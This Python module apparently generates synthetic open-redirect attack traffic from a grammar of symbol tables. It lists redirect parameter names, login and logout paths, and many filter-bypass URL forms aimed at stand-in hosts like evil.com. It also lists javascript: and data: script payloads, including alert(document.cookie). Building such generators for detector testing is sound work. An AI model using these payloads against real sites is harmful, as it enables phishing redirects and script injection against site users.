"""Open redirects as parameters of login and logout pages, and as their shortest targets: hosts that
hide behind slashes, signs of credentials, odd dots and schemes."""

from traffic.grammars.attacks.pieces import Grammar, Symbols
from traffic.grammars.words.sites import host, script_path

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "php": script_path, "host": host,
    "bad": (
        "‹evil›", "‹evil›", "evil.com", "evil.‹tld›", "attacker.‹tld›", "‹host›", "‹host›",
        "phish.‹tld›", "malicious.‹tld›", "www.‹rnd›.‹tld›", "google.com", "example.com",
        "www.google.com", "‹ip›", "hacker.‹tld›",
    ),
    "dot": ("。", "｡", "%E3%80%82", "%ff0e", "\\."),
    "dotted": (
        "‹rnd›‹dot›‹tld›", "evil‹dot›com", "www‹dot›‹rnd›‹dot›‹tld›",
        "‹word›‹dot›‹tld›",
    ),
    "sl": (
        "//", "//", "//", "///", "////", "/\\", "/\\", "\\/", "\\\\", "/\\/", "/%2f", "%2f%2f",
        "/%5c", "%5c%5c", "//%2f", "/%09/", "/%0d/", "/%0a/", "//%09/", "\\/\\/", "/\t/", "/.//",
        "//\\", "%5c/", "/%2f%2f", "/;//", "///\\",
    ),
    "up": (
        "", "", "", "/", "/%2e%2e", "/%2f..", "/..", "/%2f%2e%2e", "/../", "/%2e%2e%2f", "/.",
        "/‹id›", "?", "#", "/%20", "%2f", "/..;/", "//",
    ),
    "t": (
        "‹sl›‹bad›‹up›", "‹sl›‹bad›‹up›", "‹sl›‹bad›", "‹sl›‹dotted›‹up›",
        "http://‹host›@‹bad›‹up›", "https://‹host›@‹bad›", "https://‹host›:‹n›@‹bad›",
        "http://‹host›%40‹bad›", "//‹host›@‹bad›", "//‹host›%40‹bad›", "http:‹bad›", "https:‹bad›",
        "https:/‹bad›", "http:/‹bad›‹up›", "https:///‹bad›", "http:\\\\‹bad›", "https:\\‹bad›",
        "http:/\\/\\‹bad›", "HtTp://‹host›@‹bad›", "https://‹host›.‹bad›‹up›",
        "https://‹host›\\@‹bad›", "https://‹bad›\\@‹host›", "https://‹bad›#@‹host›",
        "https://‹bad›%23@‹host›", "https://‹bad›?@‹host›",
        "javascript://‹host›/%0aalert(‹n›)", "/%09/javascript:‹confirm¦prompt›(‹n›)",
        "http://‹dotted›", "//‹dotted›", "https://‹bad›%00.‹host›", "https://‹bad›%0a.‹host›",
        "https:‹bad›‹up›",
        "%68%74%74%70:/‹sl›‹bad›", "/‹host›@‹bad›", "@‹bad›", ".‹bad›", "//‹n8›‹nn›‹nn›",
        "http://‹nn›‹nn›/",
        "//0x‹hex8›/", "ftp://‹host›@‹bad›", "‹sl›‹host›@‹bad›",
        "https://‹host›;@‹bad›", "/.‹bad›", "%0d%0a//‹bad›", "http://‹bad›\\‹host›", "〱‹bad›",
        "ⓗⓣⓣⓟ:///‹bad›",
    ),
    "js": (
        "javascript:‹alert¦confirm¦prompt›(‹n›)",
        "javascript:‹location=‹rnd›¦alert(document.cookie)¦‹abc›()›", "java%0ascript:alert(‹n›)",
        "data:text/html,<script>‹rnd›</script>", "data:text/html;base64,‹b64s›",
        "JavaScript:‹abc›(‹n›)", "javascript:%0aalert(‹n›)", "\tjavascript:‹rnd›()",
        "vbscript:‹rnd›", "javascript&colon;‹rnd›()",
    ),
    "key": (
        "url", "uri", "next", "return", "returnTo", "return_to", "returnUrl", "return_url",
        "ReturnUrl", "redirect", "redirect_url", "redirect_uri", "redirect_to", "redirectUrl",
        "goto", "go", "dest", "destination", "target", "continue", "r", "u", "to", "out", "link",
        "rurl", "redir", "callback", "back", "backurl", "ref",
        "success_url", "checkout_url", "service", "forward", "location", "login_url", "page",
        "path", "image_url", "RelayState", "origin", "exit", "from_url", "n",
    ),
    "page": (
        "/login", "/logout", "/signin", "/auth/login", "/sso", "/redirect", "/out", "/go", "/link",
        "/exit", "/r", "/‹word›", "/account/logout", "/oauth/authorize", "/checkout",
        "/‹word›/‹word›", "‹php›", "/", "/users/sign_in", "/cas/login", "/wp-login.php", "/click",
        "/jump.php", "/switch.php", "/url",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    target=("‹t›", "‹t›"),
    script_line=("‹page›?‹key›=‹js›", "‹key›=‹js›", "‹page›?‹id›=‹n›&‹key›=‹js›"),
    line=(
        "‹page›?‹key›=‹t›", "‹page›?‹key›=‹t›", "‹page›?‹id›=‹n›&‹key›=‹t›",
        "‹page›?‹key›=‹t›&‹id›=‹rnd›",
    ),
    pair=("‹key›=‹t›", "?‹key›=‹t›", "‹key›=‹sl›‹bad›‹up›", "‹id›=‹n›&‹key›=‹t›"),
    behind_path=(
        "‹sl›‹bad›/%2e%2e", "/‹word›‹sl›‹bad›‹up›", "/‹word›/..‹sl›‹bad›",
        "/‹word›/%2e%2e‹sl›‹bad›‹up›", "‹sl›‹bad›/‹id›/..‹up›", "/‹abc›‹sl›‹bad›", "‹sl›‹dotted›",
        "//‹bad›//", "/%5c‹bad›‹up›", "/‹sl›‹host›@‹bad›‹up›",
    ),
)
